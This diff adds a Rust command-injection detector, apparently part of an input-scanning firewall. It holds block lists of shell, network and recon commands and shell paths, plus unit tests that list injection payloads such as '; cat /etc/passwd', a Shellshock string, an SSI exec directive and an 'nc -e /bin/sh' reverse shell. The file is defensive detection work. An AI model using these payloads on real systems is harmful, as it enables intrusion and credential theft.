@@ -1,0 +1,351 @@
+//! Command injection: finds places where a shell would start a command (the start of the
+//! value, after `;`, `|`, `&`, a newline, inside `` `...` `` or `$(...)`) and checks whether
+//! what stands there is a command, on the command-line view where quoting tricks are undone.
+
+use crate::Hits;
+use crate::rules;
+
+/// Commands an attacker runs to probe, fetch, or open a shell: named after a separator they
+/// are an attack whatever follows.
+const STRONG_COMMANDS: &[&str] = &[
+    "whoami", "uname", "id", "ifconfig", "ipconfig", "netstat", "wget", "curl", "nc", "ncat",
+    "netcat", "bash", "sh", "zsh", "ksh", "csh", "tcsh", "dash", "powershell", "pwsh", "cmd",
+    "perl", "python", "python2", "python3", "php", "ruby", "lua", "ping", "nslookup", "cat",
+    "ls", "echo", "sleep", "systeminfo", "tasklist", "taskkill", "telnet", "socat", "nmap",
+    "passwd", "sudo", "su", "chmod", "chown", "rm", "mkfifo", "crontab", "certutil", "bitsadmin",
+    "rundll32", "regsvr32", "mshta", "cscript", "wscript", "wmic", "net", "netsh", "reg", "dir",
+    "type", "ver", "hostname", "tftp", "ftp", "scp", "ssh", "base64", "xxd", "printenv", "env",
+    "uptime", "pwd", "ps", "kill", "killall", "dig", "host", "traceroute", "tracert", "arp",
+    "route", "lsof", "useradd", "usermod", "adduser", "net1", "nohup", "timeout", "gcc", "cc",
+    "wc", "head", "tail", "more", "less", "grep", "egrep", "find", "awk", "gawk", "sed", "xargs",
+    "sort", "uniq", "cut", "tr", "tee", "dd", "od", "strings", "touch", "cp", "mv", "mkdir",
+    "rmdir", "ln", "tar", "zip", "unzip", "gzip", "gunzip", "openssl", "java", "node", "exec",
+    "eval", "expr", "shutdown", "reboot", "halt", "who", "w", "last", "history", "set",
+    "export", "unset", "alias", "start", "del", "copy", "move", "ren", "attrib", "icacls",
+    "cacls", "schtasks", "sc", "query", "qwinsta", "whereis", "which", "locate", "getent",
+    "fsutil", "vssadmin", "diskpart", "format", "print", "chcp", "mail", "sendmail", "rcp", "rsh",
+    "rlogin", "finger", "md5sum", "sha1sum", "sha256sum", "file", "stat", "readlink", "time",
+    "true", "false", "test", "cd", "ldd", "strace", "ltrace", "gdb", "busybox", "php-cgi",
+    "shred", "wall", "write", "logger", "systemctl", "service", "iptables", "mount", "umount",
+    "fdisk", "lsblk", "df", "du", "free", "top", "vmstat", "dmesg", "sysctl", "modprobe",
+    "insmod", "lsmod", "docker", "kubectl", "git", "svn", "pip", "npm", "apt", "yum", "dnf",
+    "apk", "pkg", "dpkg", "rpm",
+];
+
+/// Common English words that are also commands: after a separator they need an argument that
+/// looks like one (an option or a path) before they count.
+const AMBIGUOUS_COMMANDS: &[&str] = &[
+    "set", "start", "type", "more", "less", "find", "head", "tail", "host", "time", "test",
+    "file", "last", "who", "w", "format", "move", "copy", "print", "write", "mail", "free",
+    "top", "sort", "cut", "query", "true", "false", "wall", "service", "route", "sc", "tr",
+    "cd", "su", "dir", "del", "ren", "net", "reg", "ver", "env", "kill", "touch", "git", "node",
+    "echo", "cat", "id", "ps", "sh", "cc", "dd", "od", "ln", "mv", "cp", "rm", "df", "du", "ls",
+    "nc", "pip", "tee", "sed", "awk", "apt", "pkg", "zip", "tar", "java", "exec", "eval", "expr",
+    "sleep", "ping",
+];
+
+/// Interpreters and tools whose path alone gives the attack away.
+const SHELL_PATHS: &[&str] = &[
+    "/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/", "/usr/local/bin/", "cmd.exe", "powershell.exe",
+    "/dev/tcp/", "/dev/udp/", "system32/cmd", "%comspec%", "%systemroot%", "$env:",
+];
+
+/// Commands that only probe the machine: named alone as a whole value, they are an attack.
+const RECON_COMMANDS: &[&str] = &[
+    "whoami", "ifconfig", "ipconfig", "systeminfo", "uname", "netstat", "tasklist", "nslookup",
+    "sysinfo", "getuid", "hashdump", "phpinfo()", "whoami /all", "ipconfig /all", "uname -a",
+    "cat /etc/passwd", "id;", "ls -la", "ls -al", "ls -l",
+];
+
+/// Subcommands that turn a Windows word (`net`, `reg`, `sc`, `netsh`) into administration.
+const SUBCOMMANDS: &[(&str, &[&str])] = &[
+    ("net", &["user", "users", "view", "localgroup", "group", "share", "use", "start", "stop", "session", "accounts", "config"]),
+    ("net1", &["user", "localgroup", "view"]),
+    ("reg", &["add", "query", "delete", "save", "export", "import", "load"]),
+    ("sc", &["query", "create", "config", "start", "stop", "delete", "qc"]),
+    ("netsh", &["firewall", "advfirewall", "interface", "wlan", "http", "winsock"]),
+    ("wmic", &["process", "useraccount", "os", "qfe", "service", "product", "nicconfig"]),
+];
+
+/// `base` is the decoded view (for code such as `system('id')`, whose quotes matter),
+/// `view` the command-line view with quoting tricks undone.
+pub fn scan(base: &str, view: &str, hits: &mut Hits) {
+    code_execution_calls(base, hits);
+    let bytes = view.as_bytes();
+    if bytes.iter().all(|b| b.is_ascii_alphanumeric() || *b == b' ' || *b == b'_') && !view.contains(' ') {
+        return;
+    }
+    // Shellshock: a function definition in a header or variable.
+    if let Some(pos) = memchr::memmem::find(bytes, b"() {") {
+        hits.add(&rules::CMDI_SHELLSHOCK, view, pos);
+    }
+    if let Some(pos) = memchr::memmem::find(bytes, b"<!--#") {
+        let directive = &view[pos + 5..];
+        if ["exec", "include", "echo", "config", "printenv", "fsize", "flastmod", "set"]
+            .iter()
+            .any(|d| directive.starts_with(d))
+        {
+            hits.add(&rules::CMDI_SSI, view, pos);
+        }
+    }
+    for path in SHELL_PATHS {
+        if let Some(pos) = memchr::memmem::find(bytes, path.as_bytes()) {
+            // `/bin/` must be followed by a program name.
+            let after = &view[pos + path.len()..];
+            if !path.ends_with('/') || after.bytes().next().is_some_and(|b| b.is_ascii_alphabetic()) {
+                hits.add(&rules::CMDI_SHELL_PATH, view, pos);
+                break;
+            }
+        }
+    }
+    let trimmed = view.trim();
+    if RECON_COMMANDS.contains(&trimmed) {
+        hits.add(&rules::CMDI_COMMAND_LINE, view, 0);
+        return;
+    }
+
+    let mut i = 0;
+    let mut at_start = true;
+    while i <= bytes.len() {
+        let (position, substitution) = if at_start {
+            (Some(0), false)
+        } else {
+            match next_separator(bytes, i) {
+                Some((sep_end, subst)) => (Some(sep_end), subst),
+                None => (None, false),
+            }
+        };
+        let Some(position) = position else { break };
+        if let Some((name, word_end)) = command_at(view, position) {
+            let args = &view[word_end..];
+            let rule_hit = if substitution {
+                // `` `id` ``, `$(id)`: shell syntax around a command name is unambiguous.
+                args.trim_start().is_empty()
+                    || args.starts_with([' ', '\t', '`', ')', ';', '|', '&'])
+            } else if has_admin_subcommand(name, args) {
+                true
+            } else if at_start {
+                starts_like_command_line(name, args)
+            } else if AMBIGUOUS_COMMANDS.contains(&name) {
+                argument_looks_shell(args)
+                    || matches!(name, "sleep" | "ping") && numeric_or_host_argument(args) || args.trim_start().is_empty() && !name.is_empty() && substitution
+                    || (args.trim().is_empty() || args.starts_with([';', '|', '&', '\n', '`', ')']))
+                        && matches!(name, "id" | "ls" | "ps" | "env" | "set" | "dir" | "ver" | "w" | "who" | "cd" | "echo" | "sh" | "cat" | "pwd")
+            } else {
+                true
+            };
+            if rule_hit {
+                let rule = if substitution {
+                    &rules::CMDI_SUBSTITUTION
+                } else if at_start {
+                    &rules::CMDI_COMMAND_LINE
+                } else {
+                    &rules::CMDI_CHAINED
+                };
+                hits.add(rule, view, position);
+                return;
+            }
+        }
+        if at_start {
+            at_start = false;
+            i = 0;
+        } else {
+            i = position.max(i + 1);
+        }
+    }
+    // A lone command name as the whole value.
+    if STRONG_COMMANDS.contains(&trimmed) && !AMBIGUOUS_COMMANDS.contains(&trimmed) {
+        hits.add(&rules::CMDI_BARE_COMMAND, view, 0);
+    }
+}
+
+/// The next place after `from` where a shell starts a new command, and whether it is a
+/// command substitution.
+fn next_separator(bytes: &[u8], from: usize) -> Option<(usize, bool)> {
+    let mut i = from;
+    while i < bytes.len() {
+        match bytes[i] {
+            b';' | b'\n' | b'\r' => return Some((i + 1, false)),
+            b'|' | b'&' => {
+                let mut j = i + 1;
+                if bytes.get(j) == Some(&bytes[i]) {
+                    j += 1;
+                }
+                return Some((j, false));
+            }
+            b'`' => return Some((i + 1, true)),
+            b'$' if bytes.get(i + 1) == Some(&b'(') => return Some((i + 2, true)),
+            b'(' | b'{' if i > 0 && matches!(bytes[i - 1], b'<' | b'>') => return Some((i + 1, true)),
+            _ => i += 1,
+        }
+    }
+    None
+}
+
+/// The command word at `at` (after spaces, `(`, `{` and `!`), by its base name.
+fn command_at(view: &str, at: usize) -> Option<(&str, usize)> {
+    let bytes = view.as_bytes();
+    let mut i = at;
+    while i < bytes.len() && (bytes[i].is_ascii_whitespace() || matches!(bytes[i], b'(' | b'{' | b'!' | b'@')) {
+        i += 1;
+    }
+    let start = i;
+    while i < bytes.len() && (bytes[i].is_ascii_alphanumeric() || matches!(bytes[i], b'/' | b'.' | b'_' | b'-' | b':' | b'\\')) {
+        i += 1;
+    }
+    if i == start {
+        return None;
+    }
+    let word = &view[start..i];
+    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
+    let base = base.strip_suffix(".exe").unwrap_or(base);
+    // `{cat,/etc/passwd}`: brace expansion splits on the comma.
+    let base = base.split(',').next().unwrap_or(base);
+    if base.is_empty() || (!STRONG_COMMANDS.contains(&base)) {
+        return None;
+    }
+    // A word with a path in front must be an absolute path or a plain name.
+    if word.len() != base.len() && !(word.starts_with('/') || word.contains(":\\") || word.starts_with("./")) && !word.ends_with(".exe") {
+        return None;
+    }
+    Some((STRONG_COMMANDS.iter().find(|c| **c == base).copied()?, i))
+}
+
+fn has_admin_subcommand(name: &str, args: &str) -> bool {
+    let Some((_, subs)) = SUBCOMMANDS.iter().find(|(n, _)| *n == name) else {
+        return false;
+    };
+    args.starts_with(char::is_whitespace)
+        && args.split_ascii_whitespace().next().is_some_and(|a| subs.contains(&a))
+}
+
+/// An argument a shell command takes: an option (`-la`, `/all` on Windows), a path, a
+/// redirection or pipe, a variable.
+fn argument_looks_shell(args: &str) -> bool {
+    let Some(first) = args.split_ascii_whitespace().next() else {
+        return false;
+    };
+    if !args.starts_with(|c: char| c.is_ascii_whitespace() || c == ',') && !args.starts_with(['>', '<', '|']) {
+        return false;
+    }
+    // `{cat,/etc/passwd}`: brace expansion separates with commas.
+    let first = first.trim_start_matches(',');
+    let Some(&lead) = first.as_bytes().first() else {
+        return false;
+    };
+    let b = first.as_bytes();
+    match lead {
+        b'-' => b.len() > 1 && b[1].is_ascii_alphanumeric(),
+        b'/' => b.len() > 1 && (b[1].is_ascii_alphanumeric() || b[1] == b'/'),
+        b'.' | b'~' | b'$' | b'%' | b'>' | b'<' | b'|' | b'\\' => true,
+        _ => first.len() > 2 && first.as_bytes()[1] == b':' && matches!(first.as_bytes()[2], b'\\' | b'/'),
+    }
+}
+
+/// `sleep 5`, `ping 127.0.0.1`: the argument the timing and probing commands take.
+fn numeric_or_host_argument(args: &str) -> bool {
+    args.starts_with(char::is_whitespace)
+        && args
+            .split_ascii_whitespace()
+            .next()
+            .is_some_and(|a| a.bytes().all(|b| b.is_ascii_digit() || b == b'.'))
+}
+
+/// A whole value that reads as a command line: a command, then an option or path, or a
+/// fetcher and a URL.
+fn starts_like_command_line(name: &str, args: &str) -> bool {
+    let first_arg = args.split_ascii_whitespace().next().unwrap_or("");
+    if matches!(name, "curl" | "wget" | "nc" | "ncat" | "tftp" | "ftp" | "telnet" | "lynx")
+        && args.starts_with(' ')
+        && (first_arg.starts_with("http://") || first_arg.starts_with("https://") || first_arg.starts_with("ftp://") || first_arg.split('.').count() == 4)
+    {
+        return true;
+    }
+    if name == "sleep" && numeric_or_host_argument(args) && args.split_ascii_whitespace().count() == 1 {
+        return true;
+    }
+    argument_looks_shell(args) && !matches!(name, "w" | "who" | "set" | "time" | "test" | "true" | "false" | "more" | "less" | "top" | "free" | "start" | "print" | "write")
+}
+
+/// `system('id')`, `exec("ls")`, `passthru(...)`: code that runs a command.
+fn code_execution_calls(view: &str, hits: &mut Hits) {
+    const CALLS: &[&str] = &[
+        "system(", "exec(", "shell_exec(", "passthru(", "popen(", "proc_open(", "pcntl_exec(",
+        "os.system(", "os.popen(", "subprocess.", "runtime.getruntime().exec", "child_process",
+        "execsync(", "spawnsync(", "__import__(", "assert(", "create_function(", "processbuilder(",
+        "phpinfo(", "phpversion(", "<?php", "<?=", "eval(", "file_get_contents(", "include(",
+        "require(", "fopen(", "readfile(",
+    ];
+    let bytes = view.as_bytes();
+    if memchr::memchr(b'(', bytes).is_none() && memchr::memchr(b'.', bytes).is_none() {
+        return;
+    }
+    for call in CALLS {
+        if let Some(pos) = memchr::memmem::find(bytes, call.as_bytes()) {
+            // A call with an argument, not prose like "the system (ours) ...".
+            let before_ok = pos == 0 || !bytes[pos - 1].is_ascii_alphanumeric() && bytes[pos - 1] != b'_' || call.contains('.');
+            let arg = &view[pos + call.len()..];
+            let no_argument_call = matches!(*call, "phpinfo(" | "phpversion(") && arg.starts_with(')');
+            let code_tag = call.starts_with('<');
+            if before_ok && (arg.trim_start().starts_with(['\'', '"', '$', '`']) || call.contains('.') || no_argument_call) || code_tag {
+                hits.add(&rules::CMDI_CODE_EXEC, view, pos);
+                return;
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::test_support::families;
+
+    fn cmdi(input: &str) -> bool {
+        families(input, 1).contains(&"cmdi")
+    }
+
+    #[test]
+    fn command_injections_are_found() {
+        for attack in [
+            "; cat /etc/passwd",
+            "| whoami",
+            "127.0.0.1 && id",
+            "x || ping -c 10 127.0.0.1",
+            "`id`",
+            "$(whoami)",
+            "a;w'h'o'am'i",
+            "a|who^ami",
+            ";cat${IFS}/etc/passwd",
+            "() { :;}; /bin/bash -c 'id'",
+            "<!--#exec cmd=\"ls\"-->",
+            "& ping -n 5 127.0.0.1 &",
+            "| type C:\\Windows\\win.ini",
+            "uname -a",
+            "nc -e /bin/sh 10.0.0.1 4444",
+            "system('id');",
+            "%0Aid",
+            "{cat,/etc/passwd}",
+        ] {
+            assert!(cmdi(attack), "missed: {attack}");
+        }
+    }
+
+    #[test]
+    fn ordinary_text_is_left_alone() {
+        for benign in [
+            "Tom & Jerry",
+            "cat & dog",
+            "R&D; more details later",
+            "fish | chips",
+            "set the table",
+            "who are you?",
+            "find a doctor; type your name",
+            "id",
+            "the system (ours) works",
+            "5 - 3 = 2",
+            "echo",
+            "time; sleep well",
+        ] {
+            assert!(!cmdi(benign), "false positive: {benign}");
+        }
+    }
+}
